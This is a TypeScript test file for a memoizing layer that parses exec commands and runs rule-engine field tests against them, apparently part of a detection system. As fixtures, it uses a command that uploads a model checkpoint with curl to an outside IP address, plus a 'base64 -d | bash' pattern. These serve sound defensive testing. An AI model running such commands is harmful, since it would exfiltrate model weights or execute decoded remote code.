import { describe, expect, it } from 'vitest';
import { canonicalExecValue, execCommandReadings } from './exec-canonical.js';
import { derivedValues, execReading, leafOutcomes, MAX_ENTRIES, MAX_KEY, MAX_LEAVES, MAX_MEMO_BYTES, memoizedTest, readingBytes, readingsOf } from './exec-reading-memo.js';
import { compileFieldTest, type FieldTest } from './field-test.js';
import { mulberry32 } from '../../core/mulberry32.js';

function fieldTest(mods: string[], value: unknown): FieldTest {
  const r = compileFieldTest(mods, value);
  if (!r.ok) throw new Error(r.error);
  return r.test;
}

/** A real test that counts how often it really runs. */
function counted(test: FieldTest): { test: FieldTest; runs: () => number } {
  let n = 0;
  return { test: { ...test, matches: (v) => (n++, test.matches(v)) }, runs: () => n };
}

describe('execReading', () => {
  it('reads a command once and gives the same reading to every event that runs it', () => {
    const a = execReading(['sh', '-c', 'curl -T /ckpt/model.pt https://203.0.113.9/u']);
    const b = execReading(['sh', '-c', 'curl -T /ckpt/model.pt https://203.0.113.9/u']);
    expect(b).toBe(a);
    expect(a.readings).toEqual(execCommandReadings(['sh', '-c', 'curl -T /ckpt/model.pt https://203.0.113.9/u'], a.canonical));
    expect(a.canonical?.commands.some((c) => c[0] === 'curl')).toBe(true);
  });

  it('tells argv apart from a command line and words apart from their join', () => {
    const joined = execReading(['a b']);
    const split = execReading(['a', 'b']);
    const line = execReading('a b');
    expect(split).not.toBe(joined);
    expect(line).not.toBe(split);
    expect(line.canonical).toEqual(canonicalExecValue('a b'));
    expect(split.canonical).toEqual(canonicalExecValue(['a', 'b']));
  });

  it('reads argv holding anything but strings afresh, as it is', () => {
    const argv = ['curl', 7, '-T', '/ckpt/model.pt'];
    const a = execReading(argv);
    const b = execReading([...argv]);
    expect(b).not.toBe(a);
    expect(b.readings).toEqual(execCommandReadings(argv, canonicalExecValue(argv)));
  });

  it('does not remember commands past the key bound, and starts over past the entry bound', () => {
    const long = ['sh', '-c', `echo ${'x'.repeat(MAX_KEY)}`];
    expect(execReading(long)).not.toBe(execReading(long));
    const first = execReading(['true', 'first']);
    for (let i = 0; i < MAX_ENTRIES; i++) execReading(['true', String(i)]);
    const again = execReading(['true', 'first']);
    expect(again).not.toBe(first);
    expect(again.readings).toEqual(first.readings);
  });

  it('starts over past its byte budget: long commands are remembered by the hundred, short ones by the thousand', () => {
    const first = execReading(['true', 'first']);
    const pad = 'x'.repeat(MAX_KEY - 64);
    const long = Math.ceil(MAX_MEMO_BYTES / readingBytes(`a${pad}`)) + 1;
    expect(long).toBeLessThan(1024);
    for (let i = 0; i < long; i++) execReading([`${i}${pad}`]);
    expect(execReading(['true', 'first'])).not.toBe(first);
    // Everyday commands (~60 characters) fit by the thousand.
    const short = Math.floor(MAX_MEMO_BYTES / readingBytes(`a${'x'.repeat(60)}`));
    expect(short).toBeGreaterThan(4000);
  });
});

describe('memoizedTest', () => {
  it('runs a rule test once per remembered reading, with the outcome of a fresh test', () => {
    const plain = fieldTest(['contains'], 'model.pt');
    const { test: inner, runs } = counted(plain);
    const test = memoizedTest(inner);
    const upload = execReading(['curl', '-T', '/ckpt/model.pt', 'https://203.0.113.9/u']);
    const probe = execReading(['nvidia-smi', '-q']);
    for (let i = 0; i < 5; i++) {
      expect(test.matches(readingsOf(upload))).toBe(true);
      expect(test.matches(readingsOf(probe))).toBe(false);
    }
    expect(runs()).toBe(2);
  });

  it('answers afresh for a value that is not the reading handed out last', () => {
    const { test: inner, runs } = counted(fieldTest(['endswith'], '.pt'));
    const test = memoizedTest(inner);
    const r = execReading(['cp', '/ckpt/a.pt', '/tmp/b.pt']);
    readingsOf(r);
    expect(test.matches(['ls', '/tmp/x.pt'])).toBe(true);
    expect(test.matches(['ls', '/tmp/x.txt'])).toBe(false);
    expect(runs()).toBe(2);
  });

  it("runs a test of a derived list field (attrs.exec.toolWords) once per remembered reading, and afresh once the readings are handed out", () => {
    const { test: inner, runs } = counted(fieldTest(['startswith'], 'curl -T'));
    const test = memoizedTest(inner);
    const upload = execReading(['sh', '-c', 'curl -sT /ckpt/model.pt https://203.0.113.9/u']);
    const probe = execReading(['sh', '-c', 'curl -s https://203.0.113.9/health']);
    for (let i = 0; i < 5; i++) {
      expect(test.matches(derivedValues(upload, upload.canonical!.toolWords))).toBe(true);
      expect(test.matches(derivedValues(probe, probe.canonical!.toolWords))).toBe(false);
    }
    expect(runs()).toBe(2);
    // The derived values handed out before the readings were are no longer the memo's: answered afresh.
    const words = upload.canonical!.toolWords;
    readingsOf(probe);
    expect(test.matches(words)).toBe(true);
    expect(runs()).toBe(3);
  });

  it('agrees with the plain test over random commands, remembered or not', () => {
    const rnd = mulberry32(7);
    const words = ['sh', '-c', 'curl', '-T', '/ckpt/model.pt', 'https://203.0.113.9/u', 'base64', '-d', '|', 'bash', 'python3', 'tar', 'czf', 'ls'];
    const tests = [fieldTest(['contains'], 'curl'), fieldTest(['endswith'], '.pt'), fieldTest(['re'], '^(?:sh|bash)$'), fieldTest([], ['tar', 'ls'])];
    const memo = tests.map(memoizedTest);
    const wordsMemo = tests.map(memoizedTest);
    for (let i = 0; i < 2000; i++) {
      const n = 1 + Math.floor(rnd() * 5);
      const argv = Array.from({ length: n }, () => words[Math.floor(rnd() * words.length)]!);
      const cmd = rnd() < 0.3 ? argv.join(' ') : argv;
      const reading = execReading(cmd);
      const values = readingsOf(reading);
      const fresh = execCommandReadings(cmd, canonicalExecValue(cmd));
      for (let t = 0; t < tests.length; t++) expect(memo[t]!.matches(values)).toBe(tests[t]!.matches(fresh));
      // A derived list field (toolWords) through the same memo agrees with the test on a fresh reading's.
      const toolWords = reading.canonical === null ? [] : derivedValues(reading, reading.canonical.toolWords);
      const freshWords = canonicalExecValue(cmd)?.toolWords ?? [];
      for (let t = 0; t < tests.length; t++) expect(wordsMemo[t]!.matches(toolWords)).toBe(tests[t]!.matches(freshWords));
    }
  });
});

describe('leafOutcomes', () => {
  it('keeps one slot per step for each of the last MAX_LEAVES leaves, on remembered readings only', () => {
    const r = execReading(['true', 'leaf-outcomes']);
    const leaf = {};
    const first = leafOutcomes(r, leaf, 5)!;
    expect([...first]).toEqual([0, 0, 0, 0, 0]);
    first[2] = 2;
    expect(leafOutcomes(execReading(['true', 'leaf-outcomes']), leaf, 5)).toBe(first);
    for (let i = 0; i < MAX_LEAVES; i++) leafOutcomes(r, {}, 3);
    expect(r.leaves!.length).toBe(MAX_LEAVES);
    // The first leaf was the oldest: it starts again with nothing known.
    expect([...leafOutcomes(r, leaf, 5)!]).toEqual([0, 0, 0, 0, 0]);
    // A reading made for one event only keeps nothing.
    const once = execReading(['sh', '-c', `echo ${'x'.repeat(MAX_KEY)}`]);
    expect(leafOutcomes(once, leaf, 5)).toBeNull();
    expect(once.leaves).toBeNull();
  });
});
